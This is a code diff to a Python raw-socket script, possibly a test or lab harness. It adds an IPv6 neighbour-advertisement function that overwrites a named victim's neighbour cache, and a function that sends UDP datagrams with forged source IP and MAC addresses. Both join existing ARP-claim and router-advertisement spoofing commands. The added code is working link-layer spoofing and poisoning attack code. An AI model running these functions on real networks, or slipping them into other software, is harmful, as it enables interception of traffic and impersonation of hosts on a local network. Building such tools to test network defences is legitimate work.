@@ -7,6 +7,7 @@ import struct
 import subprocess
 import sys
 
+ETHERTYPE_IP = 0x0800
 ETHERTYPE_ARP = 0x0806
 ETHERTYPE_IPV6 = 0x86DD
 
@@ -67,6 +68,45 @@ def router_advertisement(prefix):
         sock.send(frame)
 
 
+def neighbour_claim(claimed, victim, victim_mac):
+    """The same for IPv6: an unasked neighbour advertisement that overrides what the victim knows."""
+    sock = raw(ETHERTYPE_IPV6)
+    mine = interface_mac(sock)
+    source, target = (socket.inet_pton(socket.AF_INET6, address) for address in (claimed, victim))
+    body = struct.pack("!BBHI", 136, 0, 0, 0x60000000) + source + struct.pack("!BB6s", 2, 1, mine)
+    body = with_checksum(source, target, 58, body, 2)
+    frame = mac_bytes(victim_mac) + mine + struct.pack("!H", ETHERTYPE_IPV6) + header6(source, target, 58, body, 255) + body
+    for _ in range(5):
+        sock.send(frame)
+
+
+def datagram(source, source_mac, target, target_mac, port, text):
+    """A UDP datagram in a frame, both with whatever source is said; an empty MAC is the interface's own."""
+    is_v6 = ":" in target
+    sock = raw(ETHERTYPE_IPV6 if is_v6 else ETHERTYPE_IP)
+    family = socket.AF_INET6 if is_v6 else socket.AF_INET
+    source, target = (socket.inet_pton(family, address) for address in (source, target))
+    body = struct.pack("!HHHH", 5000, int(port), 8 + len(text), 0) + text.encode()
+    body = with_checksum(source, target, 17, body, 6)
+    if is_v6:
+        packet = header6(source, target, 17, body, 64) + body
+    else:
+        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0, source, target)
+        packet = header[:10] + struct.pack("!H", checksum(header)) + header[12:] + body
+    frame = mac_bytes(target_mac) + (mac_bytes(source_mac) if source_mac else interface_mac(sock))
+    sock.send(frame + struct.pack("!H", ETHERTYPE_IPV6 if is_v6 else ETHERTYPE_IP) + packet)
+
+
+def header6(source, target, protocol, body, hops):
+    return struct.pack("!IHBB16s16s", 6 << 28, len(body), protocol, hops, source, target)
+
+
+def with_checksum(source, target, protocol, body, at):
+    """The body of a transport protocol with the checksum over it and the addresses put in."""
+    total = checksum(source + target + struct.pack("!II", len(body), protocol) + body)
+    return body[:at] + struct.pack("!H", total) + body[at + 2:]
+
+
 def checksum(data):
     data += b"\0" * (len(data) % 2)
     total = sum(struct.unpack(f"!{len(data) // 2}H", data))
@@ -94,4 +134,4 @@ def wait_for_datagram(family, port, seconds):
 
 
 if __name__ == "__main__":
-    {"arp": arp_claim, "advertise": router_advertisement, "send": send, "listen": wait_for_datagram}[sys.argv[1]](*sys.argv[2:])
+    {"arp": arp_claim, "advertise": router_advertisement, "neighbour": neighbour_claim, "datagram": datagram, "send": send, "listen": wait_for_datagram}[sys.argv[1]](*sys.argv[2:])
